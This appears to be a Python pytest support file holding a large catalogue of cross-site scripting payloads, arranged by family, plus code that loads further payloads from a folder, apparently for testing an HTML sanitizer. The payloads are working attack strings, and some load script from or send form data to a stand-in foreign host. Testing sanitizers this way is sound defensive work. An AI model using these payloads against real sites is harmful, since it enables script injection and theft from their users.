"""Texts that are meant to run a script in the page that shows them: samples of each family, written for this archive,
and those of others in the folder that PAYLOADS names.

In a folder each line of a .txt file is one, each text of a .json file (in a list, or under "payload" in its objects),
and each .html file as a whole.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

# `ran` is watched as well as what opens a dialogue.
OURS: tuple[str, ...] = (
    # Elements that run or load by themselves
    "<script>alert(1)</script>", "<SCRIPT>ran=1</SCRIPT>", "<script src=//foreign.example/x.js></script>",
    "<script/x>alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script\n>",
    "<script type=module>ran=1</script>", "<script>alert(1)//", "<script <b>alert(1)</script>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href='data:text/javascript,ran=1'></script></svg>",
    # Handlers of events
    "<img src=x onerror=alert(1)>", "<img src=x onerror='ran=1'>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>", "<img src=x\x0conerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>", "<img src=x onerror=\"alert`1`\">", "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=ran=1//", "<math onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)>",
    "<audio src onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<p onmouseover=alert(1)>x</p>",
    "<div tabindex=1 autofocus onfocus=ran=1>x</div>", "<a href=/ onclick=alert(1)>x</a>",
    "<style onload=alert(1)></style>",
    "<select autofocus onfocus=alert(1)><option>x", "<p style=animation:x onanimationstart=alert(1)>x",
    "<keygen autofocus onfocus=ran=1>",
    "<p onpointerenter=alert(1) contenteditable>x", "<xss id=x tabindex=1 onfocusin=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<image src=x onerror=alert(1)>", "<p\u00a0onclick=alert(1)>x</p>", "<p/onclick=alert(1)/>x",
    "<h2 oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    # Schemes
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \t javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<a href='&#0000106avascript&#x3a;ran=1'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='jаvascript:alert(1)'>х</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='blob:null/x'>x</a>",
    "<a href='//foreign.example/'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>", "<a href='https://x\" onmouseover=alert(1) y=\"'>x</a>",
    "<img src=javascript:alert(1)>",
    "<a href=\"javascript&#x3a;alert&lpar;1&rpar;\">x</a>", "<a href='javascript://%0aalert(1)'>x</a>",
    "<a ping=//foreign.example href=/>x</a>",
    # What embeds a page
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>", "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<portal src=javascript:alert(1)>",
    "<applet code=x onerror=alert(1)>",
    # What changes the page around it
    "<base href=//foreign.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//foreign.example/'>",
    "<link rel=stylesheet href=//foreign.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=q action=//foreign.example><input name=q></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>", "<isindex type=image src=x onerror=alert(1)>",
    "<title>x</title><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "</select><img src=x onerror=alert(1)>", "<plaintext>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p style=\"background:url(javascript:alert(1))\">x", "<p style='width:expression(alert(1))'>x",
    "<style>@import '//foreign.example/x.css';</style>",
    # Names that scripts of the page look up
    "<p id=q>x</p><p name=q>x</p>", "<a id=location href=//foreign.example>x</a>",
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById><img id=createElement>", "<a id=ran><a id=ran name=x href=cid:x>",
    # Other languages in HTML, and trees that are built otherwise the second time
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math href='javascript:alert(1)'>x</math>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<table><td><svg><p><title><style></title><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    # Comments, sections and tags without an end
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>",
    "<!--<img title='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>", "]]><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<? <img src=x onerror=alert(1)>?>",
    "<!doctype html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<img src=x onerror=alert(1) ",
    "<<img src=x onerror=alert(1)>", "<a title='<img src=x onerror=alert(1)>",
    "<img title=\"><img src=x onerror=alert(1)>\">", "<b title='a\"b`c'onmouseover=alert(1)>x</b>",
    # Out of an attribute, a script, a feed, a table
    "\" onmouseover=\"alert(1)\" x=\"", "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) `",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
    "\"/><script>alert(1)</script>", "\\\"}];alert(1);//", "';alert(1)//\\';alert(1)//\";alert(1)//",
    "{\"a\":\"</script><script>alert(1)</script>\"}", "\u2028alert(1)\u2029",
    "-alert(1)-", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}<script>alert(1)</script>{% endraw %}", "<%= alert(1) %>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
    "=HYPERLINK(\"javascript:alert(1)\",\"x\")", "\r\n\r\n<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Signs that are taken for others, or written otherwise
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&ltimg src=x onerror=alert(1)&gt", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞", "﹤img src=x onerror=alert(1)﹥", "<\u017fcript>alert(1)</\u017fcript>",
    "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x o\x00nerror=alert(1)>", "\ufeff<script>alert(1)</script>", "<im\u0130 src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>", "<a href=\u3000javascript:alert(1)>x</a>",
    "<script\u2028>alert(1)</script>", "¼script¾alert(1)¼/script¾", "<a href='\u0085javascript:alert(1)'>x</a>",
    "<p lang='\"><script>alert(1)</script>' dir='x'>x", "<td colspan='\"><script>alert(1)</script>'>x",
    "<time datetime='\"><img src=x onerror=alert(1)>'>x</time>", "<ol start='javascript:alert(1)'><li>x",
    "<abbr title='--><script>alert(1)</script>'>x</abbr>",
)  # fmt: skip


def given() -> tuple[str, ...]:
    """Those of others; a test that asks for them is skipped where there are none."""
    folder = os.environ.get("PAYLOADS", "")
    if not folder:
        pytest.skip("PAYLOADS names no folder of payloads")
    return tuple(dict.fromkeys(text for text in read(Path(folder)) if text.strip()))


def read(folder: Path) -> Iterator[str]:
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".txt":
            yield from path.read_text(errors="replace").split("\n")
        elif path.suffix == ".json":
            yield from texts_in(json.loads(path.read_text()))
        elif path.suffix in (".html", ".htm"):
            yield path.read_text(errors="replace")


def texts_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for each in value:
            yield from texts_in(each)
    elif isinstance(value, dict):
        yield from texts_in(value["payload"] if "payload" in value else list(value.values()))
